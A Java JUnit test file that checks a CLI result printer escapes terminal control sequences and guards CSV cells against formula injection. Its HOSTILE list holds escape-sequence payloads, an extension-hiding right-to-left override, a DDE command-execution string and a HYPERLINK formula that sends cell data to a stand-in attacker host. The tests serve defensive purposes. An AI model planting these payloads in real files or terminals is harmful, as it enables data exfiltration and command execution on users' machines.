package io.wirelake.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Captured strings are hostile: what the table prints must not drive the terminal, what CSV
 * writes must not run as a spreadsheet formula, and JSON lines must keep every value exactly.
 * CSV is read back by Python's csv module and JSON by Jackson, readers independent of the printer.
 */
class ResultPrinterTest
{
    /** Values an attacker can put into a captured header, path or payload. */
    private static final List<String> HOSTILE = List.of(
            "\u001b]0;owned\u0007",                 // OSC: sets the terminal's title (and worse on some terminals)
            "\u001b[2J\u001b[31mcleared and red",     // CSI: clears the screen
            "\u009b31mC1 CSI",                         // the one-character CSI of C1
            "admin\u202egnp.exe",                      // a right-to-left override hides the real extension
            "line one\nline two\rcarriage\ttab",
            "bell\u0007 backspace\b delete\u007f nul\u0000",
            "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "plain, with \"quotes\"",
            "/api/v1/users?id=1");

    private static String print(String format, List<String> columns, List<List<Object>> rows)
    {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        PrintStream out = new PrintStream(bytes, true, StandardCharsets.UTF_8);
        ResultPrinter printer = new ResultPrinter(out, format, columns);
        rows.forEach(printer::row);
        printer.finish();
        return bytes.toString(StandardCharsets.UTF_8);
    }

    private static List<List<Object>> hostileRows()
    {
        List<List<Object>> rows = new ArrayList<>();
        for (int index = 0; index < HOSTILE.size(); index++) {
            rows.add(Arrays.asList(HOSTILE.get(index), (long) -index, List.of(HOSTILE.get(index))));
        }
        return rows;
    }

    @Test
    void theTableShowsControlCharactersAsEscapes()
    {
        String table = print("table", List.of("value\u001b[8m", "number", "list"), hostileRows());
        List<String> lines = table.lines().toList();
        assertThat(lines).as("a header, a rule and one line per row").hasSize(2 + HOSTILE.size());
        for (int index = 0; index < table.length(); index++) {
            char character = table.charAt(index);
            boolean control = character < 0x20 && character != '\n' || character >= 0x7f && character < 0xa0
                    || character >= 0x202a && character <= 0x202e || character >= 0x2066 && character <= 0x2069;
            assertThat(control).as("character %04x at %d of:\n%s", (int) character, index, table).isFalse();
        }
        assertThat(lines.get(0)).startsWith("value\\x1b[8m");
        assertThat(table).contains("\\x1b]0;owned\\x07", "\\x9b31mC1 CSI", "admin\\u202egnp.exe", "line one\\nline two\\rcarriage\\ttab",
                "\\x7f nul\\x00");
    }

    @Test
    void csvGuardsFormulasAndPythonReadsBackEveryValue(@TempDir Path directory)
            throws Exception
    {
        String csv = print("csv", List.of("value", "number", "=header"), hostileRows());
        Path file = directory.resolve("out.csv");
        Files.writeString(file, csv);
        // Python's csv module: each row as one JSON array per line.
        Process python = new ProcessBuilder("python3", "-c",
                "import csv, json, sys\nfor row in csv.reader(open(sys.argv[1], newline='', encoding='utf-8')): print(json.dumps(row))",
                file.toString()).redirectErrorStream(true).start();
        String parsed = new String(python.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(python.waitFor(60, TimeUnit.SECONDS)).isTrue();
        assertThat(python.exitValue()).as("python3 (the independent CSV reader) must run: %s", parsed).isZero();
        ObjectMapper json = new ObjectMapper();
        List<JsonNode> rows = parsed.lines().map(line -> {
            try {
                return json.readTree(line);
            }
            catch (Exception e) {
                throw new AssertionError(line, e);
            }
        }).toList();
        assertThat(rows).hasSize(1 + HOSTILE.size());
        assertThat(rows.get(0).get(2).asText()).isEqualTo("'=header");
        for (int index = 0; index < HOSTILE.size(); index++) {
            String original = HOSTILE.get(index);
            JsonNode row = rows.get(index + 1);
            String cell = row.get(0).asText();
            boolean formula = "=+-@\t\r".indexOf(original.charAt(0)) >= 0;
            assertThat(cell).as("row %d", index).isEqualTo(formula ? "'" + original : original);
            assertThat("=+-@\t\r".indexOf(cell.charAt(0))).as("no cell starts a formula: %s", cell).isNegative();
            // Numbers are not formulas: -3 stays a number.
            assertThat(row.get(1).asText()).isEqualTo(String.valueOf(-index));
        }
    }

    @Test
    void jsonLinesKeepEveryValueExactly()
            throws Exception
    {
        String lines = print("jsonl", List.of("value", "number", "list"), hostileRows());
        assertThat(lines.chars().filter(character -> character < 0x20 && character != '\n' || character >= 0x7f && character < 0xa0)).isEmpty();
        List<String> parsed = lines.lines().toList();
        assertThat(parsed).hasSize(HOSTILE.size());
        ObjectMapper json = new ObjectMapper();
        for (int index = 0; index < HOSTILE.size(); index++) {
            JsonNode row = json.readTree(parsed.get(index));
            assertThat(row.get("value").asText()).isEqualTo(HOSTILE.get(index));
            assertThat(row.get("number").asLong()).isEqualTo(-index);
            assertThat(row.get("list").get(0).asText()).isEqualTo(HOSTILE.get(index));
        }
    }
}
